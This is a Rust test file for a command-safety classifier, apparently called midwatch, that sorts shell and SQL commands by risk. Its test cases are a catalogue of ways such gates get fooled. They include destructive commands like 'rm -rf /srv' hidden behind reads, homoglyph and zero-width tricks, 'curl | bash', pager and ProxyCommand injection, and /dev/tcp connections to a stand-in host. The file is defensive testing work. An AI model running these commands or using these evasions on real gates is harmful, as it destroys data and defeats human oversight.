//! Commands whose looks deceive. Each case is a way in which gates like this one were fooled before.

use midwatch::actions::{Tables, classify};
use midwatch::domain::{Class, Language};

use Class::{Destructive, Opaque, Read, Write};

static TABLES: std::sync::LazyLock<Tables> = std::sync::LazyLock::new(|| Tables::builtin().unwrap());

fn expect(cases: &[(Class, &str)]) {
    let tables = &*TABLES;
    let wrong: Vec<String> = cases
        .iter()
        .map(|(wanted, text)| (wanted, text, classify(text, Language::Sh, tables)))
        .filter(|(wanted, _, verdict)| verdict.class != **wanted)
        .map(|(wanted, text, verdict)| format!("{text}\n   wanted {wanted:?}, got {verdict:?}"))
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// Anything but read is safe here: the person is asked for more than Enter.
fn never_read(cases: &[&str]) {
    let tables = &*TABLES;
    for text in cases {
        let verdict = classify(text, Language::Sh, tables);
        assert_ne!(verdict.class, Read, "{text}: {verdict:?}");
    }
}

#[test]
fn case_01_a_read_with_a_loss_behind_it() {
    expect(&[
        (Destructive, "ls; rm -rf /srv"),
        (Destructive, "ls && rm x"),
        (Destructive, "ls | tee /dev/null & rm x"),
    ]);
}

#[test]
fn case_02_a_line_end_separates_commands() {
    expect(&[(Destructive, "ls\nrm -rf /srv"), (Destructive, "ls # looks\nrm x")]);
}

#[test]
fn case_03_blanks_that_push_the_tail_out_of_sight() {
    let text = format!("ls{}&& rm x", " ".repeat(200));
    expect(&[(Destructive, &text)]);
}

#[test]
fn case_04_sixty_commands_the_last_of_which_destroys() {
    let text = format!("{}rm x", "ls; ".repeat(60));
    expect(&[(Destructive, &text)]);
}

#[test]
fn case_05_commands_inside_words_documents_and_sums() {
    expect(&[
        (Destructive, "echo \"$(rm x)\""),
        (Destructive, "echo `rm x`"),
        (Destructive, "cat <<X\n$(rm x)\nX"),
        (Read, "cat <<'X'\n$(rm x)\nX"),
        (Destructive, "echo ${x:-$(rm x)}"),
        (Destructive, "echo ${x/a/$(rm x)}"),
        (Opaque, "echo $((a[$(rm x)]))"),
        (Opaque, "((x = 1))"),
        (Opaque, "[[ x -eq y ]]"),
        (Opaque, "[[ -v a[0] ]]"),
        (Opaque, "echo ${x@P}"),
        (Opaque, "echo ${!x}"),
        (Opaque, "echo ${a[i]}"),
        (Destructive, "cat <(rm x)"),
        (Destructive, "x=$(rm y)"),
        (Destructive, "case $(rm x) in a) ls;; esac"),
        (Destructive, "for f in $(rm x); do ls; done"),
        (Destructive, "cat <<< \"$(rm x)\""),
        (Destructive, "echo \"\\`$(rm x)\\`\""),
        (Opaque, "cat <<X\n$(rm x\nX"),
        (Opaque, "echo $[a[0]]"),
        (Read, "cat <<X\n\\$(rm x)\nX"),
        (Read, "echo \"costs 5$\" '$(rm x)'"),
    ]);
}

#[test]
fn case_06_names_spelled_in_other_ways() {
    expect(&[
        (Destructive, "r\\m x"),
        (Destructive, "$'\\x72m' x"),
        (Destructive, "r''m x"),
        (Destructive, "\"rm\" x"),
        (Destructive, "{rm,-rf,x}"),
        (Opaque, "$X y"),
        (Opaque, "r$()m x"),
        (Opaque, "./rm x"),
        (Opaque, "/tmp/ls"),
        (Destructive, "/bin/rm x"),
        (Opaque, "l? x"),
    ]);
}

#[test]
fn case_07_letters_that_only_look_right() {
    for hidden in
        ["kub\u{435}ctl get pods", "ku\u{200b}bectl get pods", "ls\u{a0}-l", "ls\r", "ls \u{202e}x", "ls \u{e0041}"]
    {
        expect(&[(Opaque, hidden)]);
    }
    expect(&[(Read, "grep größe f"), (Read, "echo 日本")]);
}

#[test]
fn case_08_options_that_look_like_verbs() {
    expect(&[
        (Destructive, "kubectl -n get delete pvc data"),
        (Read, "kubectl -n delete get pvc"),
        (Destructive, "kubectl --namespace=get delete ns x"),
        (Opaque, "kubectl --frob get delete ns x"),
    ]);
}

#[test]
fn case_09_explain_analyze_runs_it() {
    expect(&[(Destructive, "psql -c 'EXPLAIN ANALYZE DELETE FROM t'"), (Read, "psql -c 'EXPLAIN SELECT 1'")]);
}

#[test]
fn case_10_a_change_inside_a_with() {
    expect(&[(Destructive, "psql -c 'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d'")]);
}

#[test]
fn case_11_a_comment_that_a_server_runs() {
    expect(&[(Opaque, "mysql -e 'SELECT 1 /*!50000 DROP TABLE t */'")]);
}

#[test]
fn case_12_client_commands_that_run_programs() {
    never_read(&[
        "psql -c \"SELECT 'x' \\gexec\"",
        "psql -c '\\! touch x'",
        "psql -c \"COPY t FROM PROGRAM 'id'\"",
        "psql -o '|sh' -c 'SELECT 1'",
        "psql -c \"\\\\d \\\\! touch x\"",
        "psql -f x.sql",
    ]);
}

#[test]
fn case_13_find_that_runs_or_writes() {
    expect(&[
        (Opaque, "find . -exec sh -c 'x \"$0\"' {} \\;"),
        (Write, "find . -fprint out"),
        (Destructive, "find . -name x -delete"),
        (Destructive, "find . -ok rm {} \\;"),
        (Destructive, "find . -exec grep x {} \\; -exec rm {} +"),
        (Opaque, "find \"$X\" -name y"),
        (Opaque, "find . -name x $Y"),
        (Opaque, "find . -frob"),
    ]);
}

#[test]
fn case_14_sed_that_runs_or_writes() {
    expect(&[
        (Opaque, "sed s/x/id/e f"),
        (Opaque, "sed '1e id' f"),
        (Write, "sed 'w out' f"),
        (Write, "sed --in-place s/a/b/ f"),
        (Write, "sed --in-pl s/a/b/ f"),
        (Opaque, "sed -e p -e 'e id' f"),
        (Read, "sed -n '1,5p;s/a/b/gp' f"),
    ]);
}

#[test]
fn case_15_awk_that_runs_or_writes_and_one_that_compares() {
    expect(&[
        (Destructive, "awk '{system(\"rm x\")}' f"),
        (Opaque, "awk '{system($1)}' f"),
        (Write, "awk '{print > \"f\"}' g"),
        (Read, "awk '$3 > 5' f"),
        (Opaque, "awk '{print | \"sh\"}' f"),
        (Opaque, "awk -f x f"),
        (Opaque, "awk -v x=1 -i inplace '{print}' f"),
    ]);
}

#[test]
fn case_16_git_options_that_run_or_write() {
    expect(&[
        (Opaque, "git -c core.pager=/tmp/p log"),
        (Destructive, "git -c core.pager='sh -c \"rm -r /srv\"' log"),
        (Write, "git log --output=f"),
        (Opaque, "git grep -O x"),
        (Opaque, "git diff --ext-diff"),
        (Opaque, "git --exec-path=/tmp log"),
        (Destructive, "git push origin :main"),
    ]);
}

#[test]
fn case_17_variables_that_make_programs_run_others() {
    for text in [
        "PAGER='sh -c id' git log",
        "LD_PRELOAD=./x ls",
        "BASH_ENV=x bash -c ls",
        "PATH=. ls",
        "IFS=/ ls",
        "export PATH=.",
    ] {
        expect(&[(Opaque, text)]);
    }
    expect(&[(Read, "LC_ALL=C TZ=UTC date"), (Opaque, "PATH=/tmp; ls"), (Opaque, "http_proxy=x curl http://h/")]);
}

#[test]
fn case_18_ssh_options_that_run_here() {
    expect(&[
        (Opaque, "ssh -o ProxyCommand='sh -c id' h ls"),
        (Opaque, "ssh -oProxyCommand=id h ls"),
        (Opaque, "ssh -F x h ls"),
        (Opaque, "ssh h"),
        (Destructive, "ssh h 'ls; rm x'"),
        (Opaque, "ssh h \"rm $X\""),
        (Read, "ssh h uptime"),
    ]);
}

#[test]
fn case_19_names_that_are_given_another_meaning() {
    expect(&[
        (Destructive, "ls() { rm x; }; ls"),
        (Destructive, "trap 'rm x' EXIT; ls"),
        (Opaque, "alias ls='rm x'; ls"),
        // Defined where it does not hold: the name still means the program.
        (Destructive, "(reboot() { :; }); reboot"),
        (Destructive, "if false; then reboot() { :; }; fi; reboot"),
        (Destructive, "reboot() { :; } | cat; reboot"),
        (Destructive, "reboot() { :; }; ssh h reboot"),
        (Destructive, "reboot() { :; }; bash -c reboot"),
        (Opaque, "eval \"$X\""),
        (Destructive, "eval 'rm x'"),
        (Opaque, "source f"),
        (Opaque, ". f"),
    ]);
}

#[test]
fn case_20_curl_that_only_looks_and_one_that_does_not() {
    expect(&[
        (Read, "curl -o /dev/null http://h/"),
        (Write, "curl -d x=1 http://h/"),
        (Write, "curl -o /etc/cron.d/x http://h/"),
        (Opaque, "curl -K x"),
        (Opaque, "curl http://h/ | bash"),
        (Opaque, "curl gopher://h/"),
        (Write, "curl --outp f http://h/"),
    ]);
}

#[test]
fn case_21_texts_that_kill_the_parser() {
    let nested = format!("cat <<X\n{}\nX", "$(".repeat(16));
    let shallow = format!("cat <<X\n{}\nX", "$(".repeat(7));
    let braces = "{".repeat(3000);
    let word = "x".repeat(1 << 20);
    let ifs = "if ".repeat(31);
    for text in
        ["99999999999>x", "echo ~+99999999999", "cat <<", "echo $(", "a;;rm b", &nested, &shallow, &braces, &word, &ifs]
    {
        expect(&[(Opaque, text)]);
    }
    expect(&[(Read, "ls")]);
}

#[test]
fn a_variable_that_changes_later_is_not_known_before() {
    expect(&[
        (Read, "for p in a b; do kubectl logs $p; done"),
        (Opaque, "for p in a b; do kubectl logs $p; p='--as x'; done"),
        (Opaque, "for p in -a b; do kubectl logs $p; done"),
        (Opaque, "for p in $(ls); do kubectl logs $p; done"),
        (Read, "for f in a b; do cat \"$f\"; done"),
        (Opaque, "x=f; for i in 1 2; do sort $x; x='-o g'; done"),
    ]);
}

#[test]
fn redirections_count_for_what_they_write() {
    expect(&[
        (Read, "ls >/dev/null 2>&1"),
        (Write, "ls > f"),
        (Write, "ls &> f"),
        (Write, "ls >| f"),
        (Write, "ls >& f"),
        (Write, "cat <> f"),
        (Destructive, "echo b > /proc/sysrq-trigger"),
        (Destructive, "cat x > /dev/sda"),
        (Destructive, "cat x > /dev/./sda"),
        (Opaque, "cat x > /dev/tcp/h/1"),
        (Write, "for i in 1; do ls; done > f"),
        (Destructive, "> f"),
        (Destructive, ": >| f"),
        (Destructive, "echo > f"),
        (Write, ">> f"),
        (Write, "echo x > f"),
    ]);
}

#[test]
fn nothing_unknown_hides_behind_something_known() {
    expect(&[
        (Opaque, "frob; rm x"),
        (Opaque, "rm x; frob"),
        (Opaque, "sudo frob"),
        (Opaque, "timeout 5 xargs env nice frob"),
        (Opaque, "test $x"),
        (Read, "test -f \"$x\""),
        (Read, "[ -n \"$x\" ] && ls"),
        (Opaque, "printf -v 'x[$(id)]' y"),
        (Opaque, "printf -v PATH y"),
        (Read, "printf -v x y"),
        (Opaque, "read PATH"),
        (Read, "read -r x"),
        (Opaque, "unset PATH"),
        (Opaque, "unset 'x[$(id)]'"),
        (Opaque, "jobs -x rm x"),
        (Opaque, "ssh \"$H\" ls"),
        (Write, "sysctl kernel.sysrq=1"),
        (Opaque, ""),
        (Opaque, "# nothing"),
    ]);
}

#[test]
fn a_query_is_a_read_unless_it_hides_something() {
    let tables = &*TABLES;
    assert_eq!(classify("sum(rate(x[5m]))", Language::Promql, tables).class, Read);
    assert_eq!(classify("level>=error", Language::Logs, tables).class, Read);
    assert_eq!(classify("up\u{202e}", Language::Promql, tables).class, Opaque);
}

#[test]
fn every_reason_lies_inside_the_text() {
    let tables = &*TABLES;
    for text in ["grep größe f; rm x", "echo \"$(rm 'ß')\" > ü", "echo 'größe", "for ü in a; do ls; done"] {
        for reason in classify(text, Language::Sh, tables).reasons {
            assert!(text.get(reason.span.clone()).is_some(), "{text}: {reason:?}");
        }
    }
}

#[test]
fn a_network_name_that_a_variable_brings_is_still_one() {
    let class = |text: &str| classify(text, Language::Sh, &TABLES).class;
    for text in [
        "x=/dev/tcp/10.6.6.6/80; cat < \"$x\"",
        "x=/dev/t; y=cp/10.6.6.6/80; cat < $x$y",
        "for f in /dev/udp/10.6.6.6/53; do echo hello > \"$f\"; done",
        "cat < \"$(echo /dev/tcp/10.6.6.6/80)\"",
    ] {
        assert_eq!(class(text), Opaque, "{text}");
    }
    assert_eq!(class("for f in /var/log/*.log; do wc -l < \"$f\"; done"), Read);
    assert_eq!(class("echo x > \"$HOME/note\""), Write);
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(300))]
    #[test]
    fn any_text_has_a_class(text in "[ -~\\n]{0,60}") {
        let verdict = classify(&text, Language::Sh, &TABLES);
        proptest::prop_assert!(!verdict.reasons.is_empty());
    }

    #[test]
    fn nothing_appended_makes_a_loss_a_read(tail in "[ -~\\n]{0,40}") {
        let text = format!("rm -rf x\n{tail}");
        proptest::prop_assert_ne!(classify(&text, Language::Sh, &TABLES).class, Read);
    }
}
